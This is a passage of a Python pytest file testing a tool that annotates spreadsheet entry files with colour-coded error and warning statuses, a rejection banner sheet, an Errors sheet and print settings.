    assert _fill(wb["Read me first"]["A1"]) == RED
    text = "\n".join(banner)
    assert "none of its rows has been entered" in text
    assert (
        'What to do: correct the cells shown in red on the sheet "Entries", then upload the whole file again.' in text
    )
    assert (
        "Any errors will show up in red. You will need to correct these before your entries can be processed." in text
    )
    assert "1 error on 1 row; 1 warning." in text
    # No row says OK: the clean row's status is empty; the warning row keeps its amber status.
    statuses = {r: entries.cell(row=r, column=STATUS_COL) for r in (2, 3, 4)}
    assert statuses[2].value is None and _fill(statuses[2]) is None
    assert (_first_line(statuses[3]), _fill(statuses[3])) == ("Error: TEST_01", RED)
    assert (_first_line(statuses[4]), _fill(statuses[4])) == ("Warning: TEST_02", AMBER)
    assert not any(c.value == "OK" for ws in wb.worksheets for r in ws.iter_rows() for c in r)


def test_a_file_rejected_for_its_header_says_so_on_the_banner(tmp_path: Path):
    xlsx, _, _, intake = _write(INTAKE / "missing_columns.csv", tmp_path)
    assert {i.code for i in intake.issues if i.severity == "error"} == {"HDR_01"}
    wb = openpyxl.load_workbook(xlsx)
    header_issue = next(i for i in intake.issues if i.code == "HDR_01")
    line = f"HDR_01 (row {header_issue.row}): {header_issue.message} Fix: {header_issue.fix}"
    banner = wb["Read me first"]
    assert line in _values(banner)
    text = "\n".join(_values(banner))
    assert "What to do: correct the problems with the file as a whole listed below, then upload" in text
    assert "1 error with the file as a whole; 0 warnings." in text
    assert _fill(next(c for r in banner.iter_rows() for c in r if c.value == line)) == RED
    # The header's status cell keeps its text; no data row gets a status.
    ws = wb["Entries"]
    assert ws.cell(row=1, column=STATUS_COL).value == "Entry status" and _fill(ws.cell(row=1, column=STATUS_COL)) == RED
    assert [ws.cell(row=r, column=STATUS_COL).value for r in range(2, ws.max_row + 1)] == [None] * (ws.max_row - 1)


def test_an_accepted_file_with_warnings_keeps_ok_and_amber(tmp_path: Path):
    found = [_warn("TEST_01", 3, "Sex"), _warn("TEST_02", None, None, message="file-level warning")]
    xlsx, _, sheet, _ = _write(INTAKE / "base.xlsx", tmp_path, found)
    wb = openpyxl.load_workbook(xlsx)
    assert wb.sheetnames == ["Entries", "Errors"]  # no banner
    assert wb.active.title == "Entries"
    ws = _entries_sheet(wb, sheet)
    got = [
        (_first_line(ws.cell(row=r, column=STATUS_COL)), _fill(ws.cell(row=r, column=STATUS_COL))) for r in (2, 3, 4)
    ]
    assert got == [("OK", GREEN), ("Warning: TEST_01", AMBER), ("OK", GREEN)]
    assert _fill(ws.cell(row=3, column=7)) == AMBER and "TEST_01 (warning)" in ws.cell(row=3, column=7).comment.text
    assert ws.cell(row=2, column=STATUS_COL).font.color.rgb.endswith("006100")


@pytest.mark.parametrize(
    ("status", "banner"),
    [("Read and rejected", True), ("Processing complete", False), ("OCR handling this", False), (None, False)],
)
def test_the_status_given_decides_rejected_or_accepted(tmp_path: Path, status: str | None, banner: bool):
    sheet, intake = _read(INTAKE / "base.xlsx")
    xlsx, _ = write_annotated(
        INTAKE / "base.xlsx",
        tmp_path,
        file_format="xlsx",
        sheet_name=sheet.sheet,
        header_row=intake.header_row,
        positions=intake.positions,
        rows=intake.rows,
        issues=[_warn("TEST_01", 3, "Sex")],
        stem="s",
        status=status,
    )
    wb = openpyxl.load_workbook(xlsx)
    assert ("Read me first" in wb.sheetnames) is banner
    assert (wb["Entries"].cell(row=2, column=STATUS_COL).value == "OK") is not banner
    if banner:
        assert f"File status: {status}." in "\n".join(_values(wb["Read me first"]))


@pytest.mark.parametrize("fixture", ["base.xlsx", "base.csv", "merged_cells.xlsx", "error_cells.xlsx"])
def test_every_issue_message_and_fix_is_in_a_cell(tmp_path: Path, fixture: str):
    found = [*HAND_MADE, _err("TEST_07", 3, None, message="row-wide"), _err("TEST_08", None, None, message="file-wide")]
    xlsx, _, sheet, intake = _write(INTAKE / fixture, tmp_path, extra=found)
    issues = [*intake.issues, *found]
    wb = openpyxl.load_workbook(xlsx)
    # The Errors sheet: one line per issue with exactly its row, column, code, severity, message, fix.
    lines = _errors_sheet_rows(wb)
    for item in issues:
        assert (item.row, item.column, item.code, item.severity, item.message, item.fix) in lines, item.code
    assert len(lines) == len(issues)
    # Each row's status cell says every issue of the row, with its fix, in words.
    ws = _entries_sheet(wb, sheet)
    for item in issues:
        if item.row is not None and item.row != intake.header_row:
            status = ws.cell(row=item.row, column=STATUS_COL).value
            assert f"{item.message} Fix: {item.fix}" in status, item.code
    # A file-level issue is written out on the banner, message and fix.
    assert any(v == "TEST_08: file-wide Fix: fix it (TEST_08)" for v in _values(wb["Read me first"]))


@pytest.mark.parametrize("fixture", ["base.xlsx", "base.csv", "help_line_left_in.xlsx"])
@pytest.mark.parametrize("rejected", [True, False])
def test_prints_on_a4_landscape_one_page_wide_with_the_header_on_every_page(
    tmp_path: Path, fixture: str, rejected: bool
):
    found = [_err("TEST_01", 3, "UCI")] if rejected else [_warn("TEST_01", 3, "UCI")]
    xlsx, _, sheet, intake = _write(INTAKE / fixture, tmp_path, extra=found)
    wb = openpyxl.load_workbook(xlsx)
    header = intake.header_row
    sheets = {_entries_sheet(wb, sheet).title: f"${header}:${header}", "Errors": "$1:$1"}
    if rejected:
        sheets["Read me first"] = None
    for title, titles in sheets.items():
        ws = wb[title]
        assert ws.page_setup.paperSize == int(ws.PAPERSIZE_A4), title
        assert ws.page_setup.orientation == "landscape", title
        assert ws.sheet_properties.pageSetUpPr.fitToPage is True, title
        assert (ws.page_setup.fitToWidth, ws.page_setup.fitToHeight) == (1, 0), title
        assert ws.print_title_rows == titles, title


def test_a_print_area_the_centre_set_is_cleared(tmp_path: Path):
    path = _xlsx_file(tmp_path, [_record(), _record(Candidate_Number="0043")])
    wb = openpyxl.load_workbook(path)
    wb.active.print_area = "A1:C3"
    wb.save(path)
    xlsx, _, _, _ = _write(path, tmp_path / "out", [_err("TEST_01", 2, "Sex")])
    with zipfile.ZipFile(xlsx) as zf:
        assert b"_xlnm.Print_Area" not in zf.read("xl/workbook.xml")
        assert b"_xlnm.Print_Titles" in zf.read("xl/workbook.xml")


@pytest.mark.parametrize("fixture", ["base.xlsx", "base.csv", "merged_cells.xlsx", "hidden_first_sheet.xlsx"])
def test_the_banner_does_not_move_any_row(tmp_path: Path, fixture: str):
    xlsx, _, sheet, intake = _write(INTAKE / fixture, tmp_path, extra=HAND_MADE)
    ws = _entries_sheet(openpyxl.load_workbook(xlsx), sheet)
    # Every red cell sits on the row its error names, and every row holds the values read from it.
    red_rows = {c.row for r in ws.iter_rows(max_col=STATUS_COL - 1) for c in r if _fill(c) == RED}
    error_rows = {i.row for i in [*intake.issues, *HAND_MADE] if i.severity == "error" and i.column in intake.positions}
    assert red_rows == error_rows
    for record in intake.rows.to_dict("records"):
        for column, position in intake.positions.items():
            value = ws.cell(row=record["row"], column=position + 1).value
            assert ("" if value is None else str(value)) == record[column] or column == "Date of Birth", (
                record["row"],
                column,
            )
    header = [ws.cell(row=intake.header_row, column=p + 1).value for p in intake.positions.values()]
    assert header[: len(TEMPLATE_COLUMNS)] == list(intake.positions)


@pytest.mark.parametrize("make", [_xlsx_file, _csv_file])
def test_the_corrected_file_uploaded_again_is_read_from_the_entries_not_the_banner(tmp_path: Path, make):
    path = make(tmp_path, [_record(), _record(Candidate_Number="0043")])
    xlsx, _, sheet, _ = _write(path, tmp_path / "out", [_err("TEST_01", 2, "Sex")])
    assert "Read me first" in openpyxl.load_workbook(xlsx).sheetnames
    again, intake = _read(xlsx)
    assert again.sheet == "Entries"
    assert intake.rows["Candidate Number"].tolist() == ["0042", "0043"]


def test_a_banner_sheet_the_centre_already_has_is_kept(tmp_path: Path):
    path = _xlsx_file(tmp_path, [_record()], extra_sheets=["read me FIRST"])
    xlsx, _, _, _ = _write(path, tmp_path / "out", [_err("TEST_01", 2, "Sex")])
    wb = openpyxl.load_workbook(xlsx)
    assert wb.sheetnames == ["Entries", "Read me first (entries check)", "read me FIRST", "Errors"]
    assert wb.active.title == "Read me first (entries check)"
    assert wb["read me FIRST"]["A1"].value is None


def test_many_file_level_problems_are_counted_not_all_written_on_the_banner(tmp_path: Path):
    found = [_err(f"TEST_{i:02d}", None, None, message=f"problem {i}") for i in range(30)]
    xlsx, _, _, _ = _write(INTAKE / "base.xlsx", tmp_path, found)
    wb = openpyxl.load_workbook(xlsx)
    banner = _values(wb["Read me first"])
    assert sum(v.startswith("TEST_") for v in banner) == annotate_sheets.BANNER_ISSUES
    assert '10 more on the sheet "Errors".' in banner
    assert len(_errors_sheet_rows(wb)) == 30


# --- annotation costs what the issues need ---------------------------------------------------


def _big_workbook(path: Path, rows: int, header: list[str]) -> None:
    """A workbook of `rows` entry rows, two cells each (enough to load; the cost under test is per row)."""
    wb = openpyxl.Workbook(write_only=True)
    ws = wb.create_sheet("Entries")
    ws.append(header)
    for i in range(rows):
        ws.append(["12345", f"{i % 9999 + 1:04d}"])
    wb.save(path)


def _cells_by_row(path: Path, part: str = "xl/worksheets/sheet1.xml") -> dict[int, set[tuple[str, str]]]:
    """Every cell element of a sheet part, as (reference, style index) by row: what was written, read
    from the file itself (a cell that exists but holds nothing is written too)."""
    with zipfile.ZipFile(path) as zf:
        data = zf.read(part)
    found: dict[int, set[tuple[str, str]]] = {}
    for m in re.finditer(rb'<c r="([A-Z]+)(\d+)"(?: s="(\d+)")?', data):
        found.setdefault(int(m[2]), set()).add((m[1].decode() + m[2].decode(), (m[3] or b"0").decode()))
    return found


def _sheet_parts(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as zf:
        return sorted(n for n in zf.namelist() if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", n))


def test_a_big_file_rejected_for_its_header_touches_a_bounded_number_of_cells(tmp_path: Path):
    rows = 500  # five times the bound below: a cell a row would break it
    path = tmp_path / "big.xlsx"
    _big_workbook(path, rows, ["Centre Number", "Candidate Number", "Qualification"])
    sheet, intake = _read(path)
    assert len(intake.rows) == rows and "HDR_01" in {i.code for i in intake.issues}
    assert not any(i.row is not None and i.row > intake.header_row for i in intake.issues)  # no row issue

    xlsx, _ = write_annotated(
        path,
        tmp_path / "out",
        file_format="xlsx",
        sheet_name=sheet.sheet,
        header_row=intake.header_row,
        positions=intake.positions,
        rows=intake.rows,
        issues=list(intake.issues),
        stem="big",
    )
    before, after = _cells_by_row(path), _cells_by_row(xlsx)
    # Every data row comes back with exactly its own cells, none added and none restyled: no
    # row was touched. (The old code wrote a status cell on every row.)
    assert len(after) == rows + 1
    assert {r: after[r] for r in after if r != 1} == {r: before[r] for r in before if r != 1}
    # The header row: the status header added in the first free column, the header's colour on
    # it and on the label no template column has (HDR_02), its labels wrapped to print; no other
    # cell added.
    header_refs = {ref for ref, _ in before[1]}
    assert {ref for ref, _ in after[1]} == header_refs | {"D1"}
    # The added sheets (the banner and the Errors sheet) are bounded, whatever the file's size.
    parts = _sheet_parts(xlsx)
    assert len(parts) == 3
    assert sum(len(cells) for part in parts[1:] for cells in _cells_by_row(xlsx, part).values()) <= 100


def _styles_part(path: Path) -> bytes:
    with zipfile.ZipFile(path) as zf:
        return zf.read("xl/styles.xml")


def test_an_accepted_big_file_shares_one_ok_style(tmp_path: Path):
    outputs = {}
    for rows in (2_000, 6):
        path = tmp_path / f"ok{rows}.xlsx"
        _big_workbook(path, rows, ["Centre Number", "Candidate Number"])
        sheet, intake = _read(path)
        outputs[rows], _ = write_annotated(
            path,
            tmp_path / "out",
            file_format="xlsx",
            sheet_name=sheet.sheet,
            header_row=intake.header_row,
            positions=intake.positions,
            rows=intake.rows,
            issues=[_warn("TEST_01", 5, "Centre Number")],
            stem=f"ok{rows}",
        )
    xlsx, rows = outputs[2_000], 2_000
    ws = openpyxl.load_workbook(xlsx)["Entries"]
    oks = [ws.cell(row=r, column=3) for r in range(2, rows + 2) if r != 5]
    assert all(c.value == "OK" and _fill(c) == GREEN for c in oks)
    assert _first_line(ws.cell(row=5, column=3)) == "Warning: TEST_01"
    before, after = _cells_by_row(tmp_path / "ok2000.xlsx"), _cells_by_row(xlsx)
    status = {r: [style for ref, style in cells if ref == f"C{r}"] for r, cells in after.items()}
    assert len(after) == rows + 1 and all(len(status[r]) == 1 for r in after)  # one status cell a row
    # One OK style, shared by every clean row's status cell...
    assert len({status[r][0] for r in range(2, rows + 2) if r != 5}) == 1
    # ...and the styles part the same as for a file of a few rows: nothing in it grows with them.
    assert _styles_part(xlsx) == _styles_part(outputs[6])
    # Besides the status cells no cell is added or restyled, but the warning's own (A5), its row's
    # cells (top-aligned, level with the status) and the header's labels (wrapped to print).
    rest = {r: {c for c in cells if c[0] != f"C{r}"} for r, cells in after.items()}
    assert {r: v for r, v in rest.items() if r not in (1, 5)} == {r: v for r, v in before.items() if r not in (1, 5)}
    for row in (1, 5):
        assert {ref for ref, _ in rest[row]} == {ref for ref, _ in before[row]}


def test_a_header_label_that_is_no_template_column_is_marked_on_its_own_cell(tmp_path: Path):
    path = _xlsx_file(tmp_path, [_record(), _record(Candidate_Number="0043")])
    wb = openpyxl.load_workbook(path)
    wb.active.cell(row=1, column=17, value=" Notes ")
    wb.active.cell(row=2, column=17, value="paid")
    wb.save(path)
    xlsx, _, _, intake = _write(path, tmp_path / "out")
    assert [(i.code, i.column) for i in intake.issues] == [("HDR_02", "Q")]  # its letter: headings are never quoted
    ws = openpyxl.load_workbook(xlsx)["Entries"]
    notes, status = ws.cell(row=1, column=17), ws.cell(row=1, column=18)
    assert notes.value == " Notes " and _fill(notes) == AMBER and "HDR_02 (warning)" in notes.comment.text
    # The header's status cell is amber as the row's status, with no comment: the label carries it.
    assert status.value == "Entry status" and _fill(status) == AMBER and status.comment is None
